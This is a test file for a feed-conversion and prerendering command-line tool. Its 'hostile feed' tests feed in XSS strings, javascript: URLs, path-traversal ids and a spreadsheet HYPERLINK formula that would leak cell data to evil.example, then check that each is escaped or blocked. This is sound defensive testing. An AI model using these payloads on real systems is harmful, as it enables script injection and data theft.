    assert.match(german.stdout, /<category>Bildung<\/category>/);
  });

  it('keeps the feeds that a feed declares only if all practices are written', () => {
    const feedsOf = (...more) => JSON.parse(convert('--to', 'json', ...more).stdout).feeds;
    assert.deepEqual(feedsOf(), JSON.parse(readFileSync('demo/practices.json', 'utf8')).feeds);
    assert.equal(feedsOf('--filter', 'country:ES'), undefined);
  });

  // `RENEW=true` writes them.
  it('writes the feeds of the demo', () => {
    const declared = JSON.parse(readFileSync('demo/practices.json', 'utf8')).feeds;
    assert.equal(declared.length, 2);
    for (const {filter, url} of declared) {
      const [format] = /rss|atom/.exec(url);
      const demo = ['--base', 'https://willowmere.example/', '--page', 'https://willowmere.example/index.html'];
      const {status, stderr, stdout} = convert(
        '--to',
        format,
        '--filter',
        filter,
        '--url',
        `https://willowmere.example/${url}`,
        ...demo,
      );
      assert.deepEqual({status, stderr}, {status: 0, stderr: ''});
      if (process.env.RENEW) writeFileSync(join('demo', url), stdout);
      assert.equal(stdout, readFileSync(join('demo', url), 'utf8'));
      assert.ok(stdout.match(/<item>|<entry/g).length > 1);
    }
  });

  it('suggests what a value of a filter may have been meant to be, and writes what is left', () => {
    const {status, stderr, stdout} = convert(
      '--to',
      'rss',
      ...page,
      '--filter',
      'topic:eduction,Bildung,xyzzy country:ES city:Bilboa land:ES',
    );
    assert.equal(status, 0);
    assert.deepEqual(titlesIn(stdout), []);
    const [typo, translated, other, city, name, empty] = stderr.split('\n');
    assert.equal(typo, 'No practice has topic:eduction. Did you mean topic:education (Education)?');
    assert.equal(translated, 'No practice has topic:Bildung. Did you mean topic:education (Education)?');
    assert.match(other, /^No practice has topic:xyzzy\. There is topic:[\w-]+ \(.+\), .* and \d+ more\.$/);
    assert.equal(city, 'No practice has city:Bilboa. Did you mean city:Bilbao?');
    assert.equal(name, 'No practice has land:ES. There is no filter “land”, only topic, country, city, year, source.');
    assert.equal(
      empty,
      'No practice matches the filter “topic:eduction,Bildung,xyzzy country:ES city:Bilboa land:ES”. The list is empty.',
    );
    assert.match(stdout, /<generator>good-practice-browser<\/generator>\n<\/channel>/);
  });

  it('links with any url-key that the widget accepts', () => {
    const {stdout} = convert('--to', 'rss', '--url-key', 'city.list_2-a', '--filter', 'topic:education', ...page);
    assert.match(stdout, /\/practices\?city\.list_2-a-topic=education</);
  });

  it('refuses a filter or an address that it cannot read', () => {
    for (const [args, message] of [
      [['--to', 'rss', '--filter', 'topic:education spain', ...page], /“spain”.*topic:education country:ES/],
      [['--to', 'rss', '--filter', 'collection:start', ...page], /“collection:”.*topic, country, city, year, source/],
      [['--to', 'rss'], /--to rss needs --page, the address of the page with the list/],
      [['--to', 'atom', '--page', '/practices'], /--page needs an absolute address.*“\/practices”/],
      [['--to', 'rss', '--url', 'ftp://a.example', ...page], /--url needs an absolute address.*“ftp:/],
      [
        ['--to', 'rss', '--url-key', 'a b', ...page],
        /“a b” is no url-key\. It has letters, digits, hyphens, dots and underscores, such as edu\./,
      ],
    ]) {
      const {status, stderr, stdout} = convert(...args);
      assert.deepEqual({status, stdout}, {status: 2, stdout: ''});
      assert.match(stderr, message);
    }
  });

  it('says which full texts it has not read, because only `details` have them', () => {
    const feed = JSON.stringify([
      {id: 'a', title: 'A', summary: 'In short', details: 'a.json'},
      {id: 'b', title: 'B', summary: 'In short'},
    ]);
    const args = ['convert', '-', '--base', 'https://city.example/feed.json', '--to'];
    const {stderr, stdout} = run([...args, 'csv'], feed);
    assert.match(stdout, /"a","A"/);
    assert.match(stderr, /^One practice has its full text in “details” only, which was left out\. .*“texts”/);
    assert.equal(run([...args, 'json'], feed).stderr, '');
  });

  it('leaves out relative addresses of a file, which would lead elsewhere, and says what to do', () => {
    const {stderr, stdout} = run(['convert', `${feeds}/sound.json`, '--to', 'rss', ...page]);
    assert.match(stdout, /<link>https:\/\/city\.example\/practices\?gp-open=semaine<\/link>/);
    assert.match(stderr, /^One practice has relative addresses, which were left out\. .*--base/);
  });
});

describe('good-practice-browser prerender', () => {
  it('writes a list and JSON-LD, in which nothing of the feed is markup', () => {
    const {status, stdout} = run(['prerender', `${feeds}/sound.json`]);
    assert.equal(status, 0);
    assertGolden('prerender-sound.html.txt', stdout);
    assert.equal(stdout.match(/<script/g).length, 1);
    const list = JSON.parse(/<script type="application\/ld\+json">(.*)<\/script>/.exec(stdout)[1]);
    assert.equal(list['@type'], 'ItemList');
    assert.equal(list.numberOfItems, 2);
    assert.equal(
      list.itemListElement[0].item.name,
      'La semaine <interculturelle> & </script><script>alert(1)</script>',
    );
  });

  it('uses the language of --lang', () => {
    assert.match(run(['prerender', `${feeds}/sound.json`]).stdout, /Neuchâtel, Suisse/);
    assert.match(run(['prerender', `${feeds}/sound.json`, '--lang', 'en']).stdout, /Neuchâtel, Switzerland/);
  });
});

describe('a hostile feed', () => {
  const hostile = `${feeds}/hostile.json`;
  const literal = 'https://feed.invalid/=HYPERLINK("https://evil.example/?x="&A1,"click")';
  const dead = 'https://feed.invalid/javascript:alert(8)';
  /** What its honest relative addresses become; `up` leads from where they are written to the feed. */
  const linksFrom = (up) => [
    `${up}pages/a.html?b=https://feed.invalid/#c`,
    `${up}../other/a.html`,
    '/top.html',
    `${up || './'}12:30.html`,
    `${up || './'}/evil.example/x`,
    'https://city.example/x',
    up || './',
    'https://feed.invalid/x',
  ];
  const urlsOf = ({links = []}) => links.map(({url}) => url);

  it('gets no script into the HTML, and no text is changed', () => {
    const {stdout} = run(['prerender', hostile]);
    const hrefs = [...stdout.matchAll(/href="([^"]*)"/g)].map(([, href]) => href);
    assert.deepEqual(hrefs, [dead, '-1+2.html']);
    assert.ok(stdout.includes('<b>A script after a dot</b>'));
    assert.ok(stdout.includes('>https://feed.invalid/=HYPERLINK('));
    assert.ok(stdout.includes('<p>https://feed.invalid/=1+1</p>'));
  });

  it('gets no script into the JSON-LD', () => {
    const {stdout} = run(['prerender', hostile]);
    const {itemListElement} = JSON.parse(/<script type="application\/ld\+json">(.*)<\/script>/.exec(stdout)[1]);
    assert.deepEqual(
      itemListElement.map(({item}) => [item.name, item.url, item.image]),
      [
        ['A script after a dot', undefined, undefined],
        [literal, dead, undefined],
        ['=1+1', undefined, undefined],
        ['Honest addresses', '-1+2.html', 'images/a.png'],
      ],
    );
  });

  it('gets no script into our own format, and honest addresses stay relative', () => {
    const {practices} = JSON.parse(run(['convert', hostile, '--to', 'json']).stdout);
    const [script, formula, data, relative] = practices;
    assert.deepEqual(script, {id: 'script', title: 'A script after a dot', city: 'Leeds'});
    assert.deepEqual([formula.title, formula.summary, formula.url], [literal, 'https://feed.invalid/=1+1', dead]);
    assert.deepEqual([data.url, data.sections[0].base], [undefined, undefined]);
    assert.equal(relative.url, '-1+2.html');
    assert.deepEqual(urlsOf(relative), linksFrom(''));
    assert.equal(relative.image.src, 'images/a.png');
    assert.deepEqual(relative.contact, {name: 'https://feed.invalid/', url: 'contact.html'});
    assert.deepEqual(relative.sections, [{html: '<p>https://feed.invalid/</p>', base: 'hostile.json'}]);
  });

  it('gets no formula and no script into a table', () => {
    const {stdout} = run(['convert', hostile, '--to', 'csv']);
    assert.ok(stdout.includes(`"${literal.replaceAll('"', '""')}"`));
    assert.ok(stdout.includes('"https://feed.invalid/=1+1"'));
    assert.ok(stdout.includes(`"${dead}"`));
    assert.ok(stdout.includes(`"'=1+1"`));
    assert.ok(stdout.includes(`"'-1+2.html"`));
    assert.doesNotMatch(stdout, /"\s*[=+@-]/);
    assert.doesNotMatch(stdout.replaceAll(dead, ''), /javascript:|vbscript:|data:/);
  });

  it('gets no script into a feed in parts, whose addresses start from each part', () => {
    const folder = mkdtempSync(join(tmpdir(), 'gpb-split-'));
    try {
      assert.equal(run(['convert', hostile, '--to', folder, '--split']).status, 0);
      const read = (name) => JSON.parse(readFileSync(join(folder, name), 'utf8'));
      assert.deepEqual(
        read('feed.json').practices.map(({details, id, url}) => [id, url, details]),
        [
          ['script', undefined, undefined],
          ['formula', dead, undefined],
          ['data', undefined, 'details/data.json'],
          ['relative', '-1+2.html', 'details/relative.json'],
        ],
      );
      assert.deepEqual(urlsOf(read('texts.json').practices[1]), linksFrom(''));
      const details = read('details/relative.json');
      assert.deepEqual(urlsOf(details), linksFrom('../'));
      assert.equal(details.url, '../-1+2.html');
      assert.equal(details.sections[0].base, '../hostile.json');
      assert.equal(read('details/data.json').url, undefined);
      assert.equal(read('details/data.json').sections[0].base, undefined);
    } finally {
      rmSync(folder, {recursive: true});
    }
  });

  it('cannot change the meaning of its address when it is fetched', async () => {
    const feed = JSON.stringify([
      {id: 'a', title: 'https://feed.invalid/=1+1', url: 'https://feed.invalid/javascript:alert(1)', links: ['?b']},
    ]);
    const server = createServer((_, response) => response.end(feed));
    await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
    try {
      const address = `http://127.0.0.1:${server.address().port}/https://feed.invalid/javascript:alert(2)`;
      const json = await runBeside(['convert', address, '--to', 'json']);
      const [{links, title, url}] = JSON.parse(json.stdout).practices;
      assert.deepEqual(
        [title, url, links],
        ['https://feed.invalid/=1+1', 'https://feed.invalid/javascript:alert(1)', [{url: `${address}?b`}]],
      );
      const csv = await runBeside(['convert', address, '--to', 'csv']);
      assert.ok(csv.stdout.includes('"https://feed.invalid/=1+1"'));
      const html = await runBeside(['prerender', address]);
      assert.match(html.stdout, /<a href="https:\/\/feed\.invalid\/javascript:alert\(1\)">/);
      const report = await runBeside(['check', address]);
      assert.ok(report.stdout.startsWith(address), report.stdout);
    } finally {
      server.close();
    }
  });

  it('is read in the same way at every run, and from the place that --base names', () => {
    const twins = JSON.stringify(['a', 'b'].map((name) => ({title: 'Twin', city: 'Leeds', url: `${name}.html`})));
    const convert = () => run(['convert', '-', '--to', 'json'], twins).stdout;
    assert.equal(new Set(JSON.parse(convert()).practices.map(({id}) => id)).size, 2);
    assert.equal(convert(), convert());
    const {stdout} = run(['convert', hostile, '--to', 'json', '--base', 'https://city.example/data/feed.json']);
    assert.equal(JSON.parse(stdout).practices[3].links[1].url, 'https://city.example/other/a.html');
  });

  it('has its name in messages, for any texts', () => {
    const broken = '["https://feed.invalid/javascript:alert(1)", x]';
    const {stderr} = run(['convert', '-', '--to', 'json'], broken);
    assert.match(stderr, /^standard input is empty, incomplete or not valid JSON\./);
    const checked = run(['check', hostile]);
    assert.doesNotMatch(checked.stdout, /[\da-f]{8}-[\da-f]{4}-/);
  });
});

// Requirement: E-05
describe('good-practice-browser prerender --pages', () => {
  const addresses = ['--page', 'https://city.example/practices', '--url', 'https://city.example/practices/pages'];
  const feedOf = (...ids) => JSON.stringify(ids.map((id) => ({id, title: `About ${id}`})));
  let folder;
  beforeEach(() => (folder = mkdtempSync(join(tmpdir(), 'pages-'))));
  afterEach(() => rmSync(folder, {recursive: true}));
  const prerender = (feed, ...more) => run(['prerender', '-', '--pages', folder, ...addresses, ...more], feed);
  const own = ['good-practice-pages.json', 'index.html', 'pages.css', 'sitemap.xml'];
  const pagesIn = () =>
    readdirSync(folder)
      .filter((name) => !own.includes(name))
      .sort();

  it('writes a page for each practice, an index, a style sheet and a sitemap', () => {
    const into = join(folder, 'new', 'pages');
    const {status, stderr, stdout} = run([
      'prerender',
      `${feeds}/sound.json`,
      '--pages',
      into,
      ...addresses,
      '--base',
      'https://city.example/',
    ]);
    assert.deepEqual(
      {status, stderr, stdout},
      {status: 0, stderr: `${into}: 2 pages, index.html and sitemap.xml.\n`, stdout: ''},
    );
    assert.deepEqual(readdirSync(into).sort(), [...own, 'lyon-walk.html', 'semaine.html'].sort());
    for (const name of ['semaine.html', 'index.html', 'sitemap.xml'])
      assertGolden(`pages-${name}.txt`, readFileSync(join(into, name), 'utf8'));
  });

  it('removes the pages of practices that have gone, and leaves all other files alone', () => {
    prerender(feedOf('a', 'b', 'B'));
    const [capital] = pagesIn().filter((name) => name.startsWith('b-'));
    assert.deepEqual(pagesIn(), ['a.html', capital, 'b.html'].sort());
    const mine = {'mine.html': 'Mine', 'notes.txt': 'Notes', 'b.html': 'Written by hand'};
    for (const [name, text] of Object.entries(mine)) writeFileSync(join(folder, name), text);
    const {stderr} = prerender(feedOf('a', 'c'));
    assert.equal(stderr, `${folder}: 2 pages, index.html and sitemap.xml. 1 old page removed.\n`);
    assert.deepEqual(pagesIn(), ['a.html', 'b.html', 'c.html', 'mine.html', 'notes.txt']);
    for (const [name, text] of Object.entries(mine)) assert.equal(readFileSync(join(folder, name), 'utf8'), text);
  });

  it('removes nothing that a changed list of its files names outside of the folder', () => {
    prerender(feedOf('a'));
    const outside = join(folder, '..', `${basename(folder)}.html`);
    writeFileSync(outside, readFileSync(join(folder, 'a.html')));
    const manifest = {files: ['../' + basename(outside), outside, 'a.html', 5, null]};
    writeFileSync(join(folder, own[0]), JSON.stringify(manifest));
    assert.equal(prerender(feedOf('b')).status, 0);
    assert.deepEqual([pagesIn(), existsSync(outside)], [['b.html'], true]);
    rmSync(outside);
    for (const broken of ['', '[', '{"files": 5}', 'null']) {
      writeFileSync(join(folder, own[0]), broken);
      assert.equal(prerender(feedOf('b')).status, 0);
    }
  });

  it('refuses to write over a file of somebody else, before it writes anything', () => {
    for (const text of ['<h1>Our city</h1>', '<script src="good-practice-browser.js"></script>']) {
      writeFileSync(join(folder, 'index.html'), text);
      const {status, stderr} = prerender(feedOf('a'));
      assert.equal(status, 2);
      assert.equal(
        stderr,
        `${join(folder, 'index.html')} exists, and this command did not write it. Move it away, or choose another folder.\n`,
      );
      assert.deepEqual(readdirSync(folder), ['index.html']);
      assert.equal(readFileSync(join(folder, 'index.html'), 'utf8'), text);
    }
  });

  it('leaves a page that has not changed untouched', () => {
    prerender(feedOf('a', 'b'));
    const past = new Date('2020-01-01');
    for (const name of ['a.html', 'index.html']) utimesSync(join(folder, name), past, past);
    prerender(feedOf('a', 'c'));
    const isOld = (name) => statSync(join(folder, name)).mtime.getTime() === past.getTime();
    assert.deepEqual(['a.html', 'index.html'].map(isOld), [true, false]);
  });

  it('keeps all pages if there is no practice to write', () => {
    prerender(feedOf('a'));
    const {status, stderr} = prerender(feedOf('a'), '--filter', 'topic:none-of-them');
    assert.equal(status, 2);
    assert.ok(stderr.endsWith(`There is no practice to write. ${folder} stays as it was.\n`), stderr);
    assert.deepEqual(pagesIn(), ['a.html']);
  });

  it('says which addresses it needs', () => {
    for (const args of [[], addresses.slice(0, 2), addresses.slice(2)]) {
      const {status, stderr} = run(['prerender', `${feeds}/sound.json`, '--pages', folder, ...args]);
      assert.equal(status, 2);
      assert.match(stderr, /^--pages needs --page, .* and --url, the address of the folder\./);
    }
    assert.deepEqual(readdirSync(folder), []);
  });

  it('writes any ids into the folder, and nowhere else', () => {
    const ids = ['../up', '/etc/passwd', 'C:\\x', 'con', 'index', 'Ä', 'ä', 'a', 'A', '.', '..'];
    assert.equal(prerender(feedOf(...ids)).status, 0);
    assert.equal(pagesIn().length, ids.length);
    assert.equal(existsSync(join(folder, '..', 'up.html')), false);
    assert.equal(new Set(pagesIn().map((name) => name.toLowerCase())).size, ids.length);
  });

  it('writes thousands of practices', () => {
    const {status, stderr} = prerender(feedOf(...Array.from({length: 2000}, (_, i) => `p${i}`)));
    assert.deepEqual({status, stderr}, {status: 0, stderr: `${folder}: 2000 pages, index.html and sitemap.xml.\n`});
    assert.equal(pagesIn().length, 2000);
  });
});

describe('good-practice-browser convert, where it cannot write', () => {
  let folder;
  beforeEach(() => (folder = mkdtempSync(join(tmpdir(), 'write-'))));
  afterEach(() => rmSync(folder, {recursive: true}));
  const addresses = ['--page', 'https://city.example/practices', '--url', 'https://city.example/practices/pages'];
  const long = JSON.stringify([{id: 'a', title: 'A', sections: ['Long '.repeat(40_000)]}]);

  it('leaves the old files whole if the disk is full', {skip: process.platform === 'win32' && 'no ulimit'}, () => {
    const feed = JSON.stringify([{id: 'a', title: 'A', sections: ['Short']}]);
    for (const args of [
      ['convert', '-', '--to', join(folder, 'feed.json')],
      ['convert', '-', '--split', '--to', join(folder, 'parts')],
      ['prerender', '-', '--pages', join(folder, 'pages'), ...addresses],
    ]) {
      assert.equal(run(args, feed).status, 0);
      const files = readdirSync(folder, {recursive: true}).filter((name) => statSync(join(folder, name)).isFile());
      const contents = () => files.map((name) => readFileSync(join(folder, name), 'utf8'));
      const before = contents();
      // Files of 64 kB at most.
      const full = spawnSync('sh', ['-c', 'ulimit -f 128; exec "$@"', 'sh', process.execPath, main, ...args], {
        encoding: 'utf8',
        env,
        input: long,
      });
      assert.equal(full.status, 2, full.stderr);
      assert.match(full.stderr, /cannot be written: EFBIG/);
      const changed = files.filter((_, i) => contents()[i] !== before[i]);
      // The list of files knows both the old ones and the new ones.
      assert.deepEqual(
        changed.filter((name) => !name.includes('good-practice-')),
        [],
      );
      const debris = readdirSync(folder, {recursive: true}).filter((name) => name.endsWith('.tmp'));
      assert.deepEqual(debris, []);
      assert.equal(run(args, feed).status, 0);
    }
  });

  it(
    'leaves the old file and no other one after Ctrl-C',
    {skip: process.platform === 'win32' && 'no signals'},
    async () => {
      const path = join(folder, 'feed.json');
      writeFileSync(path, 'The old file');
      // The process sends the signal to itself, between two pieces of the file: from outside, it may come after the last one.
      const script = `
        import {watch} from 'node:fs';
        import {dirname} from 'node:path';
        import {writeWhole} from './dist/cli/write-file.js';
        const [, path, signal] = process.argv;
        const watcher = watch(dirname(path), () => {
          watcher.close();
          process.kill(process.pid, signal);
        });
        await writeWhole(path, 'x'.repeat(2e8));`;
      for (const signal of ['SIGINT', 'SIGTERM', 'SIGHUP']) {
        const args = ['--input-type=module', '--eval', script, path, signal];
        const child = spawn(process.execPath, args, {stdio: 'inherit'});
        assert.deepEqual(await once(child, 'exit'), [null, signal]);
        assert.equal(readFileSync(path, 'utf8'), 'The old file');
        assert.deepEqual(readdirSync(folder), ['feed.json']);
      }
    },
  );

  it(
    'keeps the mode of a file, and writes to where a link leads',
    {skip: process.platform === 'win32' && 'no modes'},
    () => {
      const [target, link, dangling] = ['target.json', 'link.json', 'dangling.json'].map((name) => join(folder, name));
      const convert = (path) => assert.equal(run(['convert', '-', '--to', path], '[{"title": "A"}]').status, 0);
      writeFileSync(target, '');
      chmodSync(target, 0o640);
      symlinkSync('target.json', link);
      symlinkSync('new.json', dangling);
      convert(link);
      convert(dangling);
      assert.ok([link, dangling].every((path) => lstatSync(path).isSymbolicLink()));
      assert.match(readFileSync(target, 'utf8'), /"title": "A"/);
      assert.equal(statSync(target).mode & 0o777, 0o640);
      assert.match(readFileSync(join(folder, 'new.json'), 'utf8'), /"title": "A"/);
      assert.deepEqual(readdirSync(folder).sort(), ['dangling.json', 'link.json', 'new.json', 'target.json']);
    },
  );

  it('writes over an empty page, which a full disk may have left', () => {
    writeFileSync(join(folder, 'a.html'), '');
    const {status, stderr} = run(['prerender', '-', '--pages', folder, ...addresses], '[{"id": "a", "title": "A"}]');
    assert.equal(status, 0, stderr);
  });

  it('names the file, and how to write to the standard output', () => {
    // A file is no folder.
    const path = join(feeds, 'sound.json', 'new', 'feed.csv');
    const {status, stderr} = run(['convert', `${feeds}/sound.json`, '--to', path]);
    assert.equal(status, 2);
    assert.ok(stderr.startsWith(`${path} cannot be written: ENOTDIR`), stderr);
    const dash = run(['convert', `${feeds}/sound.json`, '--to', '-']);
    assert.equal(dash.status, 2);
    assert.match(
      dash.stderr,
      /^--to needs a file name that ends in \.json, \.csv, \.rss, .*\. Use --to json or another format without a dot to write to the standard output\./,
    );
  });
});

describe('good-practice-browser', () => {
  const {version} = JSON.parse(readFileSync('package.json', 'utf8'));
  it('prints its help and its version', () => {
    const help = run(['--help']);
    assert.equal(help.status, 0);
    assertGolden('help.txt', help.stdout);
    assert.deepEqual(run(['--version']), {status: 0, stderr: '', stdout: `${version}\n`});
  });

  const wrong = [
    ['check', 'a', '--format', 'docx'],
    [],
    ['chekc', 'a.json'],
    ['check'],
    ['check', 'a', 'b'],
    ['check', 'a', '--colour'],
    ['check', 'a', '--max-warnings', 'few'],
    ['convert', 'demo/bare.json'],
    ['convert', 'demo/bare.json', '--split'],
    ['convert', 'demo/bare.json', '--to', 'feed.xml'],
    ['convert', 'demo/bare.json', '--to', '-'],
  ];

  it('refuses options of other commands, and says whose they are', () => {
    for (const [args, said] of [
      [
        'check feed.json --filter country:ES',
        'check does not know --filter, an option of convert, prerender and prerender --pages.',
      ],
      ['prerender feed.json --to list.html', 'prerender does not know --to, an option of convert and index.'],
      [
        'prerender feed.json --page https://a.example',
        'prerender does not know --page, an option of convert and prerender --pages.',
      ],
      [
        'check https://a.example --alias a --lang fr',
        'check --alias does not know --lang, an option of convert, prerender and prerender --pages.',
      ],
      ['convert feed.json --to json --alias a', 'convert does not know --alias, an option of check --alias and index.'],
    ])
      assert.deepEqual(run(args.split(' ')), {
        status: 2,
        stdout: '',
        stderr: `${said}\nSee good-practice-browser --help.\n`,
      });
  });

  it('names in its help the commands that know an option', () => {
    const lines = readFileSync('test/built/cli/golden/help.txt', 'utf8').split('\n');
    const options = lines.flatMap((line) => {
      const [, option, value, names] =
        /^  (--[a-z-]+)( [A-Z]+)? {2,}(?:((?:convert|check|prerender|index)\b[^:]*):)?/.exec(line) ?? [];
      return option ? [{option, value, names}] : [];
    });
    assert.ok(options.length > 10);
    for (const {names = 'check, convert, prerender, index', option, value} of options)
      for (const command of ['check', 'convert', 'prerender', 'index']) {
        // The rest of the command line is wrong, so that the command does nothing.
        const {stderr} = run([
          command,
          ...(names.includes('--pages') && command === 'prerender' ? ['--pages', ''] : []),
          option,
          ...(value ? ['x'] : []),
        ]);
        const isKnown = !stderr.includes('does not know');
        assert.equal(isKnown, names.includes(command), `${command} ${option}: ${stderr}`);
      }
  });

  it('never prints a user or a password in an address, not in reports either', () => {
    const to = ['--to', 'json'];
    const file = `${feeds}/sound.json`;
    for (const address of [
      'http://me:secret@localhost:9/feed.json',
      'HTTPS://me:my secret@localhost:9/feed.json',
      'ftp://me:secret@city.example/feed.json',
    ])
      for (const args of [
        ['check', address],
        ['check', address, '--json'],
        ['convert', address, ...to],
        ['convert', address, '--to', 'parts', '--split'],
        ['prerender', address],
        ['index', file, '--to', address, '--alias', 'a'],
        ['check', address, '--alias', 'a'],
        ['check', file, '--base', address],
        ['convert', file, ...to, '--page', address],
        ['convert', file, ...to, '--url', address],
        ['convert', file, '--to', address],
        ['convert', file, '--to', address, '--split'],
        ['prerender', file, '--page', 'https://x.example', '--url', 'https://x.example', '--pages', address],
        [address],
      ]) {
        const {status, stderr, stdout} = run(args);
        assert.equal(status, 2, args.join(' '));
        assert.doesNotMatch(stdout + stderr, /secret/, args.join(' '));
      }
    assert.match(
      run(['check', 'https://me:secret@city.example/']).stderr,
      /^The address of the feed contains a user or a password/,
    );
    assert.equal(existsSync('https:'), false);
  });

  it('says which value of an option is wrong, and what it should be', () => {
    for (const [option, values, message] of [
      [
        '--timeout',
        ['0', 'soon'],
        /^--timeout needs a number of seconds above 0, for example --timeout 120\. It got “(.*)”\.$/,
      ],
      [
        '--max-pages',
        ['1.5'],
        /^--max-pages needs a whole number from 1, for example --max-pages 50\. It got “(.*)”\.$/,
      ],
      [
        '--max-bytes',
        ['80 MB'],
        /^--max-bytes needs a whole number from 1, for example --max-bytes 200000000\. It got “(.*)”\.$/,
      ],
      [
        '--max-warnings',
        ['few'],
        /^--max-warnings needs a whole number from 0, for example --max-warnings 5\. It got “(.*)”\.$/,
      ],
      [
        '--base',
        ['feed.json', 'https://…@city.example/'],
        /^--base needs an absolute address without a user, .* It got “(.*)”\.$/,
      ],
      [
        '--facets',
        ['target', 'page:list', 'Target:list'],
        /^--facets needs names in small letters with their types \(.*\), for example .*\. It got “(.*)”\.$/,
      ],
      ['--lang', ['x y'], /^--lang needs the tag of a language, for example fr or pt-BR\. It got “(.*)”\.$/],
    ])
      for (const value of values) {
        const command = option === '--lang' ? 'prerender' : 'check';
        const {status, stderr, stdout} = run([command, `${feeds}/sound.json`, option, value.replace('…', 'me:secret')]);
        assert.deepEqual({status, stdout}, {status: 2, stdout: ''}, `${option} ${value}`);
        assert.equal(message.exec(stderr.split('\n')[0])?.[1], value, stderr);
      }
  });
  for (const args of wrong)
    it(`points to its help after ${JSON.stringify(args)}`, () => {
      const {status, stderr, stdout} = run(args);
      assert.deepEqual({status, stdout}, {status: 2, stdout: ''});
      assert.match(stderr, /^.+\nSee good-practice-browser --help\.\n$/);
    });
});
